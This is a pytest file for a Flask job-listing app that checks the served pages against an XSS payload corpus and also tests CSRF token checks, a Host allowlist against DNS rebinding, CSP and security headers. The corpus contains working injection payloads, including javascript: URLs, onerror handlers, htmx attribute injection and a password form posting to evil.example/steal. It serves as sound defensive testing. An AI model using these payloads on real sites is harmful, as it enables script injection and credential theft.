"""Security of the served pages: XSS corpus end to end, templates, CSRF, Host allowlist, headers."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

import db as storage
import security
from conftest import FIXTURES, ROOT
from scraper import get_source
from scraper.base import Listing

TEMPLATES = ROOT / "templates"
HTMX = {"HX-Request": "true"}

XSS_CORPUS = [
    "<script>alert('xss-script')</script>",
    "&lt;script&gt;alert('xss-escaped')&lt;/script&gt;",
    "<img src=x onerror=\"alert('xss-onerror')\">",
    "<a href=\"javascript:alert('xss-href')\">click</a>",
    "<a href=\"jav&#x61;script:alert('xss-entity')\">click</a>",
    "<a href=\"&#x6A;&#x61;vascript&#x3A;alert('xss-entity2')\">click</a>",
    "<svg onload=\"alert('xss-svg')\"><rect/></svg>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<form action=\"https://evil.example/steal\" method=post><input name=pw></form>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<div hx-get=\"/listing/1/status\" hx-trigger=\"load\" hx-target=\"body\">hx</div>",
    "<div data-hx-post=\"/listing/1/status\" data-hx-trigger=\"load\">data-hx</div>",
    "<p hx-on:htmx:load=\"alert('xss-hx-on')\">on</p>",
    "<style>body{display:none}</style><p style=\"position:fixed\">styled</p>",
    "<hx-partial hx-target=\"#detail\"><script>alert('xss-partial')</script></hx-partial>",
    "<base href=\"https://evil.example/\">",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "\"><script>alert('xss-break')</script>",
]


class Audit(HTMLParser):
    """Collect what a browser would treat as active content in a served page."""

    OUR_SCRIPTS = {"/static/vendor/htmx-4.0.1.min.js", "/static/app.js"}
    OUR_METAS = {"viewport", "csrf-token", "htmx-config"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.stack: list[tuple[str, dict]] = []
        self.description_depth = 0

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        inside_description = self.description_depth > 0
        if tag == "div" and "description" in (attrs.get("class") or ""):
            if "hx-ignore" not in attrs:
                self.problems.append("description without hx-ignore")
            self.description_depth += 1
        elif inside_description:
            self.description_depth += 1
            if any(name.startswith(("hx-", "data-hx-")) for name in attrs):
                self.problems.append(f"htmx attribute in description: {tag} {attrs}")
            if tag not in {"p", "br", "ul", "ol", "li", "strong", "em", "b", "i", "a", "h2", "h3", "h4",
                           "blockquote", "code", "pre"}:
                self.problems.append(f"tag {tag} in description")
        if tag == "script" and attrs.get("src") not in self.OUR_SCRIPTS:
            self.problems.append(f"script {attrs}")
        if tag == "meta" and attrs.get("name") not in self.OUR_METAS and attrs.get("charset") is None:
            self.problems.append(f"meta {attrs}")
        if tag in {"iframe", "object", "embed", "svg", "math", "style", "base", "frame", "img", "template"}:
            self.problems.append(f"tag {tag}")
        for name, value in attrs.items():
            if name.startswith("on") or name == "style":
                self.problems.append(f"attribute {name} on {tag}")
            if name in {"href", "src", "action", "formaction", "data-url"} and value:
                scheme = urlsplit(value.strip()).scheme.lower()
                if scheme not in {"", "http", "https", "mailto"}:
                    self.problems.append(f"{name}={value!r} on {tag}")
                if scheme == "" and name != "href" and not value.startswith("/"):
                    self.problems.append(f"{name}={value!r} on {tag}")
            if name.startswith(("hx-", "data-hx-")) and value and "alert" in value:
                self.problems.append(f"{name}={value!r}")
        if tag == "form" and not (attrs.get("action") or "").startswith("/"):
            self.problems.append(f"foreign form {attrs}")

    def handle_endtag(self, tag):
        if self.description_depth:
            self.description_depth -= 1


def audit(html: str) -> list[str]:
    parser = Audit()
    parser.feed(html)
    parser.close()
    return parser.problems


def csrf(client) -> str:
    html = client.get("/").get_data(as_text=True)
    return re.search(r'<meta name="csrf-token" content="([^"]+)"', html).group(1)


@pytest.fixture
def hostile(db):
    """Real remotive listings whose text fields carry the XSS corpus; returns their ids."""
    base = get_source("remotive").parse((FIXTURES / "remotive/remotive_all_2026-07.json").read_bytes()).listings
    listings = []
    for i, payload in enumerate(XSS_CORPUS):
        real = base[i % len(base)]
        listings.append(Listing(
            source="remotive", source_id=f"xss-{i}", title=f"{real.title} {payload}",
            company=f"{real.company} {payload}", location=payload, url="javascript:alert('xss-url')" if i % 2 else
            "jav&#x61;script:alert('xss-url2')", description_html=real.description_html + payload,
            posted_at=real.posted_at, salary=payload, tags=[payload, "python"], raw={"payload": payload},
        ))
    storage.upsert_listings(db, listings)
    ids = [row[0] for row in db.conn.execute("SELECT id FROM listings WHERE source_id LIKE 'xss-%' ORDER BY id")]
    from types import SimpleNamespace
    for lid in ids:
        storage.save_flags(db, lid, [SimpleNamespace(kind="location", label="loc:unknown", evidence=XSS_CORPUS[0]),
                                     SimpleNamespace(kind="focus", label="focus:tech", evidence=XSS_CORPUS[2])], "t")
        storage.save_score(db, lid, score=50, strategy="fewshot", model=XSS_CORPUS[3], reasoning=XSS_CORPUS[0],
                           evidence=[XSS_CORPUS[6], XSS_CORPUS[1]])
    return ids


def test_xss_corpus_never_reaches_the_page_as_markup(client, hostile):
    pages = [client.get("/").get_data(as_text=True), client.get("/", headers=HTMX).get_data(as_text=True)]
    for lid in hostile:
        pages.append(client.get(f"/listing/{lid}").get_data(as_text=True))
        pages.append(client.get(f"/listing/{lid}", headers=HTMX).get_data(as_text=True))
    for html in pages:
        assert audit(html) == []
        assert "<script>alert" not in html and "<hx-partial" not in html.lower()
    # The scraped text is still there, escaped, so the person can read it.
    assert "&lt;script&gt;alert(&#39;xss-script&#39;)&lt;/script&gt;" in pages[0]
    # Unsafe listing URLs are shown as text, never as a link or a keyboard 'o' target.
    assert "data-url=" not in pages[0]
    assert 'class="unsafe-url"' in pages[2]


def test_action_partials_are_clean_too(client, hostile):
    token = csrf(client)
    resp = client.post(f"/listing/{hostile[0]}/status", data={"status": "starred", "from": "row", "next": "/"},
                       headers={**HTMX, "X-CSRF-Token": token})
    assert resp.status_code == 200
    assert audit(resp.get_data(as_text=True)) == []


def test_templates_never_mark_scraped_data_safe():
    for path in TEMPLATES.glob("*.html"):
        text = path.read_text()
        assert not re.search(r"\|\s*safe\b", text), path.name
        assert "Markup(" not in text and "autoescape false" not in text, path.name
        # CSP forbids inline code and styles, so none may be written.
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), path.name
        assert not re.search(r"\sstyle=", text) and "<style" not in text, path.name
        assert not re.search(r"\son[a-z]+=", text), path.name


def test_htmx_config_uses_keys_htmx_4_reads():
    html = (TEMPLATES / "base.html").read_text()
    raw = re.search(r"<meta name=\"htmx-config\" content='([^']+)'>", html).group(1)
    config = json.loads(raw)
    assert config["mode"] == "same-origin"
    assert config["includeIndicatorCSS"] is False
    assert config["history"] in (False, "reload")
    assert config["extensions"] == "jobsift"
    assert config["prefix"] == ""
    source = (ROOT / "static/vendor/htmx-4.0.1.min.js").read_text()
    for key in config:
        assert re.search(rf"\b{key}\b", source), f"htmx 4.0.1 has no config key {key}"
    app_js = (ROOT / "static/app.js").read_text()
    assert 'registerExtension("jobsift"' in app_js and "initSecurity" in app_js


def _unsafe_rules(app):
    for rule in app.url_map.iter_rules():
        for method in sorted((rule.methods or set()) & security.UNSAFE_METHODS):
            values = {name: 1 if type(conv).__name__ in ("IntegerConverter", "NumberConverter") else "x"
                      for name, conv in rule._converters.items()}
            yield method, rule, values


def test_every_unsafe_route_requires_the_csrf_token(app, client, db, hostile):
    token = csrf(client)
    rules = list(_unsafe_rules(app))
    assert {rule.endpoint for _, rule, _ in rules} >= {
        "views.set_status", "views.set_note", "views.set_score", "views.set_flag"}
    for method, rule, values in rules:
        with app.test_request_context():
            from flask import url_for
            url = url_for(rule.endpoint, **values)
        attempts = [
            ({}, {}),  # no token at all
            ({"X-CSRF-Token": "wrong"}, {}),
            ({}, {"csrf_token": "wrong"}),
            ({"X-CSRF-Token": token, "Sec-Fetch-Site": "cross-site"}, {}),
            ({"X-CSRF-Token": token, "Sec-Fetch-Site": "same-site"}, {}),
            ({"X-CSRF-Token": token, "Origin": "https://evil.example"}, {}),
            ({"X-CSRF-Token": token, "Origin": "null"}, {}),
            ({"X-CSRF-Token": token, "Origin": "http://localhost:5001"}, {}),
        ]
        for headers, data in attempts:
            resp = client.open(url, method=method, headers=headers, data=data)
            assert resp.status_code == 403, (method, url, headers, data)
            assert "Refused" in resp.get_data(as_text=True)
    assert db.conn.execute("SELECT count(*) FROM verdicts").fetchone()[0] == 0


def test_token_in_header_or_form_from_this_origin_passes(client, db, hostile):
    token = csrf(client)
    lid = hostile[0]
    by_header = client.post(f"/listing/{lid}/status", data={"status": "starred"},
                            headers={**HTMX, "X-CSRF-Token": token, "Origin": "http://localhost",
                                     "Sec-Fetch-Site": "same-origin"})
    assert by_header.status_code == 200
    by_form = client.post(f"/listing/{lid}/status", data={"status": "hidden", "csrf_token": token, "next": "/"})
    assert by_form.status_code == 303
    assert storage.get_verdict(db, lid)["status"] == "hidden"


def test_token_belongs_to_one_session(app, client, hostile):
    token = csrf(client)
    other = app.test_client()
    other.get("/")
    resp = other.post(f"/listing/{hostile[0]}/status", data={"status": "starred"},
                      headers={"X-CSRF-Token": token})
    assert resp.status_code == 403


@pytest.mark.parametrize("host, status", [
    ("localhost", 200), ("localhost:5000", 200), ("127.0.0.1:5000", 200),
    ("evil.com", 400), ("evil.com:5000", 400), ("localhost.evil.com", 400), ("127.0.0.1.nip.io", 400),
])
def test_host_allowlist_against_dns_rebinding(client, host, status):
    assert client.get("/", headers={"Host": host}).status_code == status


def _get_urls(app):
    from flask import url_for
    with app.test_request_context():
        for rule in app.url_map.iter_rules():
            if "GET" not in (rule.methods or ()):
                continue
            if rule.endpoint == "static":
                yield url_for("static", filename="app.css")
                continue
            values = {name: 1 if type(conv).__name__ in ("IntegerConverter", "NumberConverter") else "x"
                      for name, conv in rule._converters.items()}
            yield url_for(rule.endpoint, **values)


def test_security_headers_on_every_get_route(app, client, hostile):
    urls = list(_get_urls(app))
    assert "/" in urls and "/static/app.css" in urls
    for url in urls + ["/no-such-page"]:
        resp = client.get(url)
        for name, value in security.SECURITY_HEADERS.items():
            assert resp.headers.get(name) == value, (url, name)
    refused = client.get("/", headers={"Host": "evil.com"})
    assert refused.headers["Content-Security-Policy"] == security.CONTENT_SECURITY_POLICY


def test_csp_is_the_strict_policy():
    policy = dict(part.strip().split(" ", 1) for part in security.CONTENT_SECURITY_POLICY.split(";"))
    assert policy == {
        "default-src": "'self'", "script-src": "'self'", "style-src": "'self'", "img-src": "'self'",
        "connect-src": "'self'", "object-src": "'none'", "base-uri": "'none'", "form-action": "'self'",
        "frame-ancestors": "'none'",
    }


def test_static_assets_are_local_only():
    for path in [ROOT / "static/app.css", ROOT / "static/app.js", *TEMPLATES.glob("*.html")]:
        text = Path(path).read_text()
        assert not re.search(r"\ssrc=\"(?:https?:)?//", text), path
        assert not re.search(r"<link[^>]*href=\"(?:https?:)?//", text), path
        assert "@import" not in text and "url(http" not in text, path
